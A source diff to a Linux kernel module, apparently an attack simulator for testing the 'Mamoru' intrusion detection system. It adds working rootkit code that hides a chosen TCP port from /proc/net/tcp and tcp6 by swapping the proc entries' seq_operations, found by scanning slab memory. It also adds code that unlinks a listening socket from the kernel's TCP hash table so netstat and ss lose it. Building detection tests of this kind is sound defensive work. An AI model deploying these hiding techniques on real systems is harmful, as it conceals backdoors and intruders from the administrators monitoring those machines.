@@ -31,6 +31,18 @@
  *                   `adrp x16, tramp; br x16` over the entry's two instructions
  *   kprobe_hook=1   register a kprobe (a BRK written into kernel text) on the same handler
  *                   with a pre_handler that counts calls
+ *   hide_port=N     hide TCP port N from /proc/net/tcp and /proc/net/tcp6 (so from netstat
+ *                   and ss without netlink) without writing read-only memory: each entry's
+ *                   proc_dir_entry (slab memory) gets its seq_ops pointed at a copy of the
+ *                   kernel's seq_operations whose show skips sockets with N as local or
+ *                   remote port. The entry is found the way a rootkit without the kernel's
+ *                   private headers would: open the file, take the seq_operations its
+ *                   seq_file got (the entry's seq_ops), then look for the pointer to the
+ *                   entry just before the inode (struct proc_inode) and for that value in it
+ *   unhash_port=N   unlink the TCP listener on port N from the kernel's listening hash table
+ *                   (DKOM): /proc/net/tcp, netstat and ss lose it, and new connections to N
+ *                   are refused, while connections it accepted before go on. Unloading
+ *                   hashes it again. Needs TCP/IP (refused without CONFIG_INET)
  *
  * Architectures: arm64 (Debian's cloud kernels) and 32-bit ARM (the versatilepb guest's 6.1
  * kernel, ARMv5). vbar, inline_hook and kprobe_hook are arm64 only: elsewhere insmod fails
@@ -60,13 +72,18 @@
 #include <linux/mm.h>
 #include <linux/module.h>
 #include <linux/pid.h>
+#include <linux/proc_fs.h>
 #include <linux/rculist.h>
 #include <linux/sched.h>
 #include <linux/sched/signal.h>
 #include <linux/sched/task.h>
 #include <linux/stop_machine.h>
 #include <linux/slab.h>
+#include <linux/seq_file.h>
 #include <linux/uaccess.h>
+#include <net/inet_hashtables.h>
+#include <net/sock.h>
+#include <net/tcp.h>
 #include <linux/vmalloc.h>
 #include <linux/kprobes.h>
 #include <linux/percpu.h>
@@ -152,6 +169,14 @@ MODULE_PARM_DESC(inline_hook, "branch from the start of __arm64_sys_getdents64 i
 static bool kprobe_hook;
 module_param(kprobe_hook, bool, 0444);
 MODULE_PARM_DESC(kprobe_hook, "put a kprobe on __arm64_sys_getdents64");
+
+static int hide_port;
+module_param(hide_port, int, 0444);
+MODULE_PARM_DESC(hide_port, "TCP port to hide from /proc/net/tcp and tcp6 (0: none)");
+
+static int unhash_port;
+module_param(unhash_port, int, 0444);
+MODULE_PARM_DESC(unhash_port, "TCP port whose listener is unlinked from the hash table (0: none)");
 
 static atomic_long_t calls = ATOMIC_LONG_INIT(0);
 static atomic_t in_hook = ATOMIC_INIT(0);
@@ -896,8 +921,149 @@ static int kprobe_attach(void) { return not_here("kprobe_hook"); }
 static void text_undo(void) { }
 #endif /* CONFIG_ARM64 */
 
+/* -- hide_port: the /proc/net/tcp[6] entries' seq_ops -------------------------------- */
+
+struct port_hook {
+	const char *path;
+	const struct seq_operations **slot;	/* the entry's seq_ops member, once hooked */
+	const struct seq_operations *orig;
+	struct seq_operations copy;
+};
+
+static struct port_hook port_hooks[2] = { { .path = "/proc/net/tcp" },
+					  { .path = "/proc/net/tcp6" } };
+
+/* Every sock a TCP seq file shows (listening, established, time-wait, request) starts with
+ * a sock_common. */
+static bool port_hidden(void *v)
+{
+	const struct sock_common *sk = v;
+	return v != SEQ_START_TOKEN && (sk->skc_num == hide_port ||
+					ntohs(sk->skc_dport) == hide_port);
+}
+
+static int show4(struct seq_file *seq, void *v)
+{
+	return port_hidden(v) ? 0 : port_hooks[0].orig->show(seq, v);
+}
+
+static int show6(struct seq_file *seq, void *v)
+{
+	return port_hidden(v) ? 0 : port_hooks[1].orig->show(seq, v);
+}
+
+/* A word in the first 40 of a slab object at p equal to want; NULL if none. */
+static void **find_word(void *p, const void *want)
+{
+	void **w = p;
+	if (!virt_addr_valid(p))
+		return NULL;
+	for (int i = 0; i < 40; i++)
+		if (w[i] == want)
+			return &w[i];
+	return NULL;
+}
+
+static int hook_port_entry(struct port_hook *h, int (*show)(struct seq_file *, void *))
+{
+	struct file *f = filp_open(h->path, O_RDONLY, 0);
+	const struct seq_operations *ops;
+	struct inode *inode;
+	void *data;
+	int err = -ENOENT;
+
+	if (IS_ERR(f)) {
+		pr_err(PFX "hide_port: cannot open %s\n", h->path);
+		return PTR_ERR(f);
+	}
+	ops = ((struct seq_file *)f->private_data)->op;
+	inode = file_inode(f);
+	data = pde_data(inode);
+	/* struct proc_inode ends with the inode; its pde pointer is a few words before. */
+	for (int i = 1; i <= 8 && err; i++) {
+		void *pde = ((void **)inode)[-i];
+		void **slot = find_word(pde, ops);
+		if (slot && find_word(pde, data)) {
+			h->orig = ops;
+			h->copy = *ops;
+			h->copy.show = show;
+			h->slot = (const struct seq_operations **)slot;
+			WRITE_ONCE(*h->slot, &h->copy);
+			pr_info(PFX "hid port %d from %s\n", hide_port, h->path);
+			err = 0;
+		}
+	}
+	if (err)
+		pr_err(PFX "hide_port: no proc entry found for %s\n", h->path);
+	filp_close(f, NULL);
+	return err;
+}
+
+static void unhook_ports(void)
+{
+	for (int i = 0; i < ARRAY_SIZE(port_hooks); i++)
+		if (port_hooks[i].slot) {
+			WRITE_ONCE(*port_hooks[i].slot, port_hooks[i].orig);
+			port_hooks[i].slot = NULL;
+		}
+}
+
+static int hook_ports(void)
+{
+	int err = hook_port_entry(&port_hooks[0], show4);
+	if (!err && IS_ENABLED(CONFIG_IPV6))
+		err = hook_port_entry(&port_hooks[1], show6);
+	return err;
+}
+
+/* -- unhash_port: a listener taken out of tcp_hashinfo ---------------------------------- */
+
+#if IS_ENABLED(CONFIG_INET)
+static struct sock *unhashed;
+
+static int unhash_listener(void)
+{
+	struct sock *sk;
+
+	rcu_read_lock();
+	/* tcp_hashinfo itself is not exported on 6.12; init_net points at it (6.1+). */
+	sk = __inet_lookup_listener(&init_net, init_net.ipv4.tcp_death_row.hashinfo, NULL, 0, 0, 0,
+				    htonl(INADDR_LOOPBACK), unhash_port, 0, 0);
+	if (sk && !refcount_inc_not_zero(&sk->sk_refcnt))
+		sk = NULL;
+	rcu_read_unlock();
+	if (!sk) {
+		pr_err(PFX "unhash_port: no listener on port %d\n", unhash_port);
+		return -ENOENT;
+	}
+	inet_unhash(sk);
+	unhashed = sk;
+	pr_info(PFX "unhashed the listener on port %d\n", unhash_port);
+	return 0;
+}
+
+static void rehash_listener(void)
+{
+	if (!unhashed)
+		return;
+	inet_hash(unhashed);
+	sock_put(unhashed);
+	unhashed = NULL;
+}
+#else
+static int unhash_listener(void)
+{
+	pr_err(PFX "unhash_port: this kernel has no TCP/IP\n");
+	return -EOPNOTSUPP;
+}
+
+static void rehash_listener(void) { }
+#endif
+
 static void undo(void)
 {
+	rehash_listener();
+	unhook_ports();
 	text_undo();
 	restore_vectors();
 	restore_banner();
@@ -927,6 +1093,10 @@ static int __init mamoru_attack_init(void)
 		err = inline_patch();
 	if (!err && kprobe_hook)
 		err = kprobe_attach();
+	if (!err && hide_port)
+		err = hook_ports();
+	if (!err && unhash_port)
+		err = unhash_listener();
 	if (err) {
 		undo();
 		return err;
@@ -946,4 +1116,4 @@ static void __exit mamoru_attack_exit(void)
 module_init(mamoru_attack_init);
 module_exit(mamoru_attack_exit);
 MODULE_LICENSE("GPL");
-MODULE_DESCRIPTION("Mamoru IDS test tool: hooks a system call or kernel text, hides a process and itself");
+MODULE_DESCRIPTION("Mamoru IDS test tool: hooks a system call or kernel text, hides a process, a port and itself");
